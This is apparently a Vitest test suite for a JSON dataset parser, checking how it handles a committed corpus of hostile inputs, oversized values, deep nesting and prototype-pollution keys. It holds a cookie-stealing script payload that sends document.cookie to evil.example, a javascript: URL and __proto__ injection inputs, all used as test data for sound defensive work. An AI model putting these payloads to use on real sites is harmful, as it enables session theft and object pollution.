import { readdirSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { describeIssue, parseDataset, type Dataset, type DatasetResult } from '../../src/data/dataset';
import { parseDatasetText } from '../../src/data/datasetText';
import type { DatasetInput } from '../../src/data/schema';
import { ACCEPTED, BROKEN, HOSTILE_DIR, readFixture } from './hostileCorpus';

function problems(r: DatasetResult): string[] {
  if (r.ok) throw new Error('expected the dataset to be rejected');
  return r.issues.map(describeIssue);
}

function accepted(r: DatasetResult): Dataset {
  if (!r.ok) throw new Error(r.issues.map(describeIssue).join('\n'));
  return r.dataset;
}

/** valid.json as a plain object, to break in a way too big to commit. */
function validJson(): DatasetInput {
  return JSON.parse(readFixture('valid.json')) as DatasetInput;
}

const EXPECTED_VALUE = 'expected a value (text in double quotes, a number, true, false, null, { or [)';

describe('the committed hostile corpus', () => {
  it('has an expectation for every file in tests/fixtures/hostile', () => {
    expect(readdirSync(HOSTILE_DIR).sort()).toEqual([...ACCEPTED, ...BROKEN.map(([file]) => file)].sort());
  });

  it('starts from a valid dataset of nine events', () => {
    expect(accepted(parseDatasetText(readFixture('valid.json'))).events).toHaveLength(9);
  });

  it.each(BROKEN)('%s is rejected with exactly the lines a person sees', (file, lines) => {
    expect(problems(parseDatasetText(readFixture(file)))).toEqual(lines);
  });
});

describe('markup and script in text fields', () => {
  it('are accepted and come back as the identical literal strings', () => {
    const raw = JSON.parse(readFixture('markup-in-every-text-field.json')) as DatasetInput;
    const d = accepted(parseDatasetText(readFixture('markup-in-every-text-field.json')));
    expect(d.source).toEqual(raw.source);
    expect(d.categories).toEqual(raw.categories);
    for (const e of raw.events) expect(d.events.find((x) => x.id === e.id)).toMatchObject({ ...e });
  });

  it('are present in every kind of text field of the fixture', () => {
    const raw = JSON.parse(readFixture('markup-in-every-text-field.json')) as DatasetInput;
    const [category] = raw.categories;
    const event = raw.events.find((e) => e.id === 'victory-80th-anniversary')!;
    const fields: Record<string, string | undefined> = {
      'source.title': raw.source.title,
      'source.author': raw.source.author,
      'source.publisher': raw.source.publisher,
      'source.dateline': raw.source.dateline,
      'source.framing': raw.source.framing,
      'source.url': raw.source.url,
      'source.text': raw.source.text,
      'category.label': category?.label,
      'category.description': category?.description,
      'event.title': event.title,
      'event.actors': event.actors.join(' '),
      'event.attribution': event.attribution,
      'event.quote': event.quote,
      'event.note': event.note,
    };
    for (const [field, value] of Object.entries(fields)) expect(value, field).toMatch(/<[a-z]+[ >/]|javascript:/);
    expect(raw.source.url).toBe('javascript:alert(document.cookie)');
  });

  it('in a quote is found in the text, tag and all', () => {
    const d = accepted(parseDatasetText(readFixture('markup-in-every-text-field.json')));
    for (const e of d.events) expect(d.source.text.slice(e.quoteStart, e.quoteStart + e.quote.length)).toBe(e.quote);
    expect(d.events.find((e) => e.id === 'victory-80th-anniversary')?.quote).toBe(
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script> was adopted',
    );
  });
});

describe('__proto__, constructor and prototype keys', () => {
  afterAll(() => {
    // Belt and braces: nothing in this file may have written to Object.prototype.
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
  });

  it('stay data: the dataset is accepted and Object.prototype is untouched', () => {
    const d = accepted(parseDatasetText(readFixture('proto-keys.json')));
    const empty: Record<string, unknown> = {};
    expect(empty.polluted).toBeUndefined();
    expect(empty.isAdmin).toBeUndefined();
    expect(empty.title).toBeUndefined();
    for (const o of [d, d.source, ...d.categories, ...d.events]) {
      expect(Object.getPrototypeOf(o)).toBe(Object.prototype);
      expect(Object.hasOwn(o, '__proto__') || Object.hasOwn(o, 'constructor') || Object.hasOwn(o, 'prototype')).toBe(
        false,
      );
      expect('polluted' in o).toBe(false);
    }
  });

  it('cannot replace a field: the event keeps its own title', () => {
    const d = accepted(parseDatasetText(readFixture('proto-keys.json')));
    expect(d.events.find((e) => e.id === 'victory-80th-anniversary')?.title).toBe(
      '80th anniversary of victory in World War II',
    );
  });

  it('are ordinary ids when used as a category or event id', () => {
    const d = accepted(parseDatasetText(readFixture('proto-keys.json')));
    expect(d.categories.map((c) => c.id)).toContain('constructor');
    expect(d.events.find((e) => e.id === 'hasownproperty')?.categories).toEqual([
      'bilateral',
      'security',
      'constructor',
    ]);
  });

  it('give the usual messages when they are all there is', () => {
    const r = parseDatasetText('{"__proto__": {"source": {}, "polluted": true}, "constructor": {"prototype": {}}}');
    expect(problems(r)).toEqual([
      'Field "source": is missing.',
      'Field "categories": is missing.',
      'Field "events": is missing.',
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('inputs too large to commit, generated here', () => {
  const TEN_MB = 10 * 1024 * 1024;

  // 70,000, more than the 50,000 the corpus calls for: past 65,000 or so, finding the extent
  // with Math.min(...bounds) overflowed the stack. How long it takes is not the point here.
  it('accepts 70,000 events on one day, sorted and all within the day', { timeout: 60_000 }, () => {
    const d = validJson();
    const sentences: string[] = [];
    d.events = [];
    for (let i = 0; i < 70_000; i++) {
      const n = String(i).padStart(5, '0');
      const seconds = (i * 7919) % 86_400;
      const time = [seconds / 3600, (seconds / 60) % 60, seconds % 60].map((x) =>
        String(Math.floor(x)).padStart(2, '0'),
      );
      const quote = `delegation ${n} arrived in Anchorage`;
      sentences.push(`Russia says ${quote}.`);
      d.events.push({
        id: `delegation-${n}`,
        title: `Delegation ${n} arrives`,
        date: i % 2 === 0 ? '2025-08-15' : `2025-08-15T${time.join(':')}Z`,
        categories: ['bilateral'],
        actors: ['Russia', 'United States'],
        attribution: 'Russia says',
        quote,
      });
    }
    d.source.text = sentences.join('\n\n');
    const dataset = accepted(parseDatasetText(JSON.stringify(d)));
    const day = { startMs: Date.UTC(2025, 7, 15), endMs: Date.UTC(2025, 7, 16) };
    expect(dataset.events).toHaveLength(70_000);
    expect(dataset.extent).toEqual(day);
    expect(dataset.events.every((e) => e.startMs >= day.startMs && e.endMs <= day.endMs)).toBe(true);
    expect(dataset.events.every((e, i, all) => i === 0 || all[i - 1]!.startMs <= e.startMs)).toBe(true);
  });

  it('rejects a 10 MB title with one short message naming the event, the field and the limit', () => {
    const d = validJson();
    d.events[4]!.title = 'A'.repeat(TEN_MB);
    const lines = problems(parseDatasetText(JSON.stringify(d)));
    expect(lines).toEqual([
      'Event "putin-xi-visit-moscow" (events[4]), field "title": is 10485760 characters long; at most 300 are allowed.',
    ]);
    expect(lines[0]!.length).toBeLessThan(200);
  });

  it('clips a 10 MB value quoted in a message to 80 characters', () => {
    const big = 'x'.repeat(TEN_MB);
    const clipped = `"${'x'.repeat(80)}…"`;
    const cases: [(d: DatasetInput) => void, string[]][] = [
      [
        (d) => (d.events[4]!.date = big),
        [
          `Event "putin-xi-visit-moscow" (events[4]), field "date": ${clipped} is not a valid EDTF date: expected a form like 2025, 2025-05, 2025-05-15 or 2025-01/2025-10.`,
        ],
      ],
      [(d) => (d.events[4]!.id = big), [`Event ${clipped} (events[4]), field "id": must be at most 80 characters.`]],
      [
        (d) => (d.categories[1]!.color = big),
        [`Field "categories[1].color": ${clipped} must be a hex colour like "#1f77b4".`],
      ],
      [
        (d) => (d.events[4]!.categories = [big]),
        [
          'Event "putin-xi-visit-moscow" (events[4]), field "categories[0]": must be at most 80 characters.',
          `Event "putin-xi-visit-moscow" (events[4]), field "categories[0]": ${clipped} is not a known category (known: bilateral, un, security, commemoration, regional, information, religion-migration, background).`,
        ],
      ],
    ];
    for (const [breakIt, expected] of cases) {
      const d = validJson();
      breakIt(d);
      const lines = problems(parseDatasetText(JSON.stringify(d)));
      expect(lines).toEqual(expected);
      for (const line of lines) expect(line.length).toBeLessThan(400);
    }
  });

  describe('deeply nested junk (200,000 levels) does not overflow the stack', () => {
    const DEPTH = 200_000;
    const lists = '['.repeat(DEPTH) + ']'.repeat(DEPTH);
    const objects = '{"a":'.repeat(DEPTH) + '0' + '}'.repeat(DEPTH);
    const valid = JSON.stringify(validJson());

    it('as the whole file', () => {
      expect(problems(parseDatasetText(lists))).toEqual([
        'The dataset must be a JSON object with "source", "categories" and "events", not a list.',
      ]);
      expect(problems(parseDatasetText(objects))).toEqual([
        'Field "source": is missing.',
        'Field "categories": is missing.',
        'Field "events": is missing.',
      ]);
    });

    it('in place of a field and of an event', () => {
      const inTitle = valid.replace('"title":"80th anniversary of victory in World War II"', `"title":${lists}`);
      expect(problems(parseDatasetText(inTitle))).toEqual([
        'Event "victory-80th-anniversary" (events[0]), field "title": must be text, not a list.',
      ]);
      const asEvent = valid.replace('"events":[', `"events":[${objects},`);
      expect(problems(parseDatasetText(asEvent))).toEqual(
        ['id', 'title', 'date', 'categories', 'actors', 'attribution', 'quote'].map(
          (field) => `Event 1 (events[0]), field "${field}": is missing.`,
        ),
      );
    });

    it('under a key the format does not know, where it is ignored', () => {
      const extra = valid.replace('"events":[{', `"events":[{"junk":${lists},`);
      expect(accepted(parseDatasetText(extra)).events).toHaveLength(9);
    });

    it('cut off, with the line, column and open brackets', () => {
      expect(problems(parseDatasetText(`{"source": ${'['.repeat(DEPTH)}`))).toEqual([
        'Not valid JSON at line 1, column 200012: the file ends too early (200001 brackets still open).',
      ]);
    });
  });

  it('names an invisible first character of a binary file by its code point', () => {
    expect(problems(parseDatasetText('\x1f\x8b\x08\x00\x00\x00\x00\x00'))).toEqual([
      `Not valid JSON at line 1, column 1: ${EXPECTED_VALUE}, found character U+001F.`,
    ]);
  });

  it('never throws on a value that is not JSON text at all', () => {
    for (const input of [undefined, 0, NaN, () => 1, Symbol('x'), new Map(), new Date(0), Object.create(null)])
      expect(parseDataset(input).ok).toBe(false);
  });
});
